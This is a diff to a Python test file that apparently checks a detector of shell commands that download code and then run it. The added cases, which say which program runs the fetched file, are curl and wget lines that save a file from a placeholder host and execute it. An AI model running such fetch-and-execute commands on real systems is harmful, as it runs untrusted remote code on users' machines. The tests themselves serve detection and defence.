@@ -170,6 +170,10 @@ def test_an_interpreters_orders_and_sockets_are_kept() -> None:
         ('eval "$(wget -qO- https://a.example/x)"', "eval"),
         ('python3 -c "$(curl https://a.example/x)"', "python3"),
         ("su -c 'curl https://a.example/x | sh' user", "sh"),
+        ("curl -o /tmp/i https://a.example/x && cd / && sh /tmp/i", "sh"),
+        ("cd /tmp\nwget https://a.example/x\nbash x --yes", "bash"),
+        ("curl https://a.example/x > /tmp/i.sh; chmod +x /tmp/i.sh; /tmp/i.sh", "i.sh"),
+        ("cd /opt; curl -fsSLO https://a.example/x; ./x", "x"),
     ],
 )
 def test_what_reads_fetched_text_says_from_where(text: str, name: str) -> None:
@@ -182,7 +186,8 @@ def test_what_reads_fetched_text_says_from_where(text: str, name: str) -> None:
         "curl -o x https://a.example/x | sh",
         "curl -fsSLO https://a.example/x | sh",
         "wget https://a.example/x | sh",
-        "curl https://a.example/x > x; sh x",
+        "curl https://a.example/x > x; sh y",
+        "cd /a; wget https://a.example/x; cd /b; sh x",
         "A=$(curl https://a.example/x); sh -c 'echo a' | sh",
         'sh -c "echo $(curl https://a.example/x)"',
     ],
